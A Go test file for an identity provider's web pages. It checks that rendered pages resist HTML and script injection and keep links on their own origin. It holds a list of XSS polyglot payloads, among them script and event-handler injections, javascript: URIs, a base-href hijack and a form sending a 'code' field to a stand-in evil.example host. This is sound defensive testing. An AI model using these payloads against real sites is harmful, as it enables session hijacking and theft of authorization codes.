package ui_test

import (
	"reflect"
	"strings"
	"testing"

	"golang.org/x/net/html"

	"github.com/cardea-iam/cardea/internal/ui/notice"
	"github.com/cardea-iam/cardea/internal/ui/part"
)

// polyglots break out of text, attributes, addresses, scripts, styles and
// comments, each in its own way.
var polyglots = []string{
	`"><script>alert(1)</script>`,
	`'><img src=x onerror=alert(1)>`,
	`javascript:alert(1)//`,
	`JaVaScRiPt:/*--></title></style></textarea></script><svg/onload='+/"/+/onmouseover=1/+/[*/[]/+alert(1)//'>`,
	`</title><script>alert(1)</script>`,
	`" autofocus onfocus="alert(1)`,
	"`onmouseover=alert(1)//",
	`data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`,
	`--><!--<form action=//evil.example><input name=code></form>`,
	`{{.RequestID}}<bdi>&lt;b&gt;&#60;script&#62;alert(1)`,
	"x\u202e<svg><style><img src=x onerror=alert(1)></style>\u2028",
	`//evil.example/%0d%0aSet-Cookie:a=b"><base href=//evil.example>`,
}

// fill puts s into every string of a page that comes from outside. The closed
// vocabularies (message keys, languages, kinds of error) have their own types
// and stay as they are.
func fill(v reflect.Value, s string) {
	switch v.Kind() {
	case reflect.Pointer:
		if !v.IsNil() {
			fill(v.Elem(), s)
		}
	case reflect.Struct:
		for i := range v.NumField() {
			if v.Type().Field(i).IsExported() {
				fill(v.Field(i), s)
			}
		}
	case reflect.Slice:
		for i := range v.Len() {
			fill(v.Index(i), s)
		}
	case reflect.String:
		if v.Type() == reflect.TypeFor[string]() {
			v.SetString(s)
		}
	}
}

// RU10, RU11: whatever is put into the fields of a page, the parsed document
// has the elements and attributes that it has for a harmless word.
func TestRU11_HostileValuesChangeNoElement(t *testing.T) {
	for _, l := range part.Locales() {
		benign, hostile := samples(l), samples(l)
		for i := range benign {
			fill(reflect.ValueOf(benign[i].page), "word")
			want := shape(parse(t, render(t, benign[i].page)))
			for n, poly := range polyglots {
				fill(reflect.ValueOf(hostile[i].page), poly)
				text := render(t, hostile[i].page)
				doc := parse(t, text)
				if got := shape(doc); got != want {
					t.Fatalf("%s/%s: polyglot %d changed the document:\n%s", benign[i].name, l, n, text)
				}
				checkAddresses(t, benign[i].name, doc)
			}
		}
	}
}

// checkAddresses asserts that no address of the page runs anything.
func checkAddresses(t *testing.T, name string, doc *html.Node) {
	t.Helper()
	for _, e := range elements(doc) {
		for _, key := range []string{"href", "src", "action", "formaction"} {
			v, _ := attr(e, key)
			scheme, _, ok := strings.Cut(strings.ToLower(strings.TrimSpace(v)), ":")
			if key == "href" && strings.HasPrefix(v, "otpauth://totp/") {
				continue // an authenticator app takes it, which runs nothing
			}
			if ok && !strings.ContainsAny(scheme, "/?#") && scheme != "http" && scheme != "https" {
				t.Errorf("%s: <%s %s=%q>", name, e.Data, key, v)
			}
		}
	}
}

// RU11: foreign text is shown as what it is, a text, and nothing of it is lost.
func TestRU11_ErrorTextIsShownVerbatim(t *testing.T) {
	for _, poly := range polyglots {
		page := &notice.Error{Base: base(part.English), Kind: notice.BadRequest, Code: poly, Detail: poly, App: part.App{Name: poly}}
		doc := parse(t, render(t, page))
		for _, id := range []string{"error-code", "error-detail", "error-app"} {
			if got := textOf(byID(doc, id)); got != poly {
				t.Errorf("#%s = %q, want %q", id, got, poly)
			}
		}
	}
}

// RU10: the form of a form_post response holds the response's fields and no
// others, with their values as they are, and can be sent without script.
func TestRU10_FormPostHoldsExactlyItsFields(t *testing.T) {
	for _, poly := range polyglots {
		page := &notice.FormPost{
			Base: base(part.English), App: part.App{Name: poly}, Target: "https://rp.example/cb?a=1",
			Fields: []part.Field{{Name: "code", Value: "c0de"}, {Name: "state", Value: poly}, {Name: "iss", Value: "https://op.example"}},
		}
		doc := parse(t, render(t, page))
		var forms, buttons int
		var got []part.Field
		for _, e := range elements(doc) {
			switch e.Data {
			case "form":
				forms++
				if action, _ := attr(e, "action"); action != page.Target {
					t.Errorf("action = %q", action)
				}
			case "button":
				buttons++
				if _, named := attr(e, "name"); named {
					t.Error("the button would add a field")
				}
			case "input":
				name, _ := attr(e, "name")
				value, _ := attr(e, "value")
				got = append(got, part.Field{Name: name, Value: value})
			}
		}
		if forms != 1 || buttons != 1 || !reflect.DeepEqual(got, page.Fields) {
			t.Errorf("%d forms, %d buttons, fields %q", forms, buttons, got)
		}
	}
}

// A logo is a picture of our own origin or none.
func TestLogoStaysOnOurOrigin(t *testing.T) {
	for path, want := range map[string]string{
		"/logo/cli_1":               "/logo/cli_1",
		`/logo/"><script>`:          `/logo/%22%3e%3cscript%3e`,
		"https://evil.example/l":    "",
		"//evil.example/l":          "",
		`/\evil.example/l`:          "",
		"/\t/evil.example/l":        "",
		"data:image/svg+xml,<svg/>": "",
	} {
		page := &notice.FormPost{Base: base(part.English), App: part.App{Name: "A", LogoPath: path}, Target: "https://rp.example"}
		got := ""
		for _, e := range elements(parse(t, render(t, page))) {
			if e.Data == "img" {
				got, _ = attr(e, "src")
			}
		}
		if got != want {
			t.Errorf("%q: src = %q, want %q", path, got, want)
		}
	}
}

// The language links repeat the address of the page, which may hold anything.
func TestLanguageLinksStayOnOurOrigin(t *testing.T) {
	for _, poly := range append(polyglots, "//evil.example", `/\evil.example`) {
		for _, path := range []string{poly, "/signin?hint=" + poly} {
			page := &notice.SignedOut{Base: part.Base{Path: path}}
			for _, e := range elements(parse(t, render(t, page))) {
				href, _ := attr(e, "href")
				if _, ok := attr(e, "hreflang"); ok && !strings.HasPrefix(href, "/signin?") {
					t.Errorf("%q became %q", path, href)
				}
			}
		}
	}
}
